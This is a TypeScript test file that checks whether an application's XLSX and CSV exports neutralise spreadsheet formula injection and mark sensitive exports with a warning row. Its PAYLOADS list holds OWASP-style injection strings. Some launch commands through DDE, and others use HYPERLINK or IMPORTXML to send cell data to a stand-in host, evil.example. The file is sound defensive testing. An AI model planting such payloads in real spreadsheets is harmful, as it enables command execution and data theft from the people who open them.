import ExcelJS from 'exceljs'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { writeXlsx } from '../../src/main/export/xlsxWriter'
import { SENSITIVE_PREFIX } from '../../src/main/export/sensitiveNotice'
import type { Services } from '../../src/main/services/createServices'
import { createInProcessTransport } from '../../src/main/rpc/inProcessTransport'
import { createClient, type Client } from '../../src/shared/rpc/client'
import { PASSPHRASE, testServices } from '../support/services'
import { useTempDirs } from '../support/tempDir'

const tempDir = useTempDirs()

/** OWASP's CSV-injection examples and their usual variants: each would run as a formula if written as is. */
const PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `=DDE("cmd";"/C calc";"!A0")A0`,
  `=1+2";=1+2`,
  `\t=1+1`,
  `\r=1+1`,
  `\n=1+1`,
  ` =1+1`,
  `\u3000=1+1`,
  `＝1+1`,
  `＋1+1`,
  `=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")`,
]
/** Harmless text that must come out exactly as it went in. */
const HARMLESS = ['Jane O’Neil', 'R&D; Team', 'a=b', '100%', 'C++ basics', 'e-mail', '2026-11-23']

async function cellsOf(path: string): Promise<ExcelJS.Cell[]> {
  const book = new ExcelJS.Workbook()
  await book.xlsx.readFile(path)
  const cells: ExcelJS.Cell[] = []
  book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell))))
  return cells
}

describe('exports never carry a formula from user text', () => {
  it('neutralises every payload in the title rows, the headers and the body of a workbook, and keeps harmless text', async () => {
    const path = join(tempDir(), 'payloads.xlsx')
    await writeXlsx(path, [
      {
        name: 'Payloads',
        preamble: PAYLOADS.map((p) => [p]),
        columns: [...PAYLOADS, ...HARMLESS].map((header) => ({ header, width: 20 })),
        rows: [[...PAYLOADS, ...HARMLESS]],
      },
    ])
    const cells = await cellsOf(path)
    expect(cells.length).toBe(PAYLOADS.length + 2 * (PAYLOADS.length + HARMLESS.length))
    for (const cell of cells) {
      expect(cell.type, String(cell.value)).toBe(ExcelJS.ValueType.String)
      expect(cell.formula).toBeUndefined()
    }
    const texts = cells.map((c) => String(c.value))
    // (XML stores a carriage return as a line feed.)
    const stored = (payload: string): string => `'${payload}`.replace(/\r/g, '\n')
    for (const payload of PAYLOADS) {
      const same = PAYLOADS.filter((p) => stored(p) === stored(payload)).length
      expect(
        texts.filter((t) => t === stored(payload)),
        payload,
      ).toHaveLength(3 * same)
    }
    for (const text of HARMLESS) expect(texts.filter((t) => t === text)).toHaveLength(2)
    // The raw XML has no formula element at all.
    expect(readFileSync(path).includes(Buffer.from('<f>'))).toBe(false)
  })

  describe('through the real exports', () => {
    let services: Services
    let client: Client
    let dir: string
    beforeEach(async () => {
      dir = tempDir()
      services = testServices(dir)
      client = createClient(createInProcessTransport(services))
      await client.call('workspace.create', { name: 'Injection', passphrase: PASSPHRASE })
      await client.call('demo.populate', { people: 200, seed: 2 })
    })
    afterEach(() => services.dispose())

    it('quotes and neutralises payloads in the outbox CSV for the LMS', async () => {
      const db = services.session.db
      const titles = db.prepare(
        `UPDATE learning_items SET title = ? WHERE id = (SELECT item_id FROM outbox_actions WHERE status = 'open' LIMIT 1)`,
      )
      titles.run(PAYLOADS[0])
      const out = join(dir, 'outbox.csv')
      await client.call('outbox.export', { path: out, format: 'csv' })
      const text = readFileSync(out, 'utf8')
      expect(text).toContain(`'${PAYLOADS[0] ?? ''}`)
      // No field of any line starts with a formula character.
      const fields = text
        .replace(/^\uFEFF/, '')
        .split('\r\n')
        .flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/))
        .map((f) => f.replace(/^"|"$/g, ''))
      expect(fields.filter((f) => /^[=+\-@]/.test(f))).toEqual([])
    })

    it('says "contains sensitive attributes" in the first row of the audit, subject access and anonymised exports', async () => {
      const { sessionId } = await client.call('calibration.create', { name: 'All' })
      const employeeId = (
        db(services).prepare('SELECT employee_id AS id FROM people LIMIT 1').get() as { id: string }
      ).id
      const files = {
        audit: join(dir, 'audit.xlsx'),
        access: join(dir, 'access.xlsx'),
        anonymised: join(dir, 'anon.xlsx'),
      }
      await client.call('fairness.export', { sessionId, path: files.audit })
      await client.call('privacy.subjectAccess', { employeeId, path: files.access })
      await client.call('privacy.anonymisedExport', { path: files.anonymised })
      for (const path of Object.values(files)) {
        const book = new ExcelJS.Workbook()
        await book.xlsx.readFile(path)
        for (const sheet of book.worksheets) {
          expect(String(sheet.getRow(1).getCell(1).value), `${path} ${sheet.name}`).toMatch(
            new RegExp(`^${SENSITIVE_PREFIX} \\(`),
          )
        }
      }
    })
  })
})

const db = (services: Services) => services.session.reader
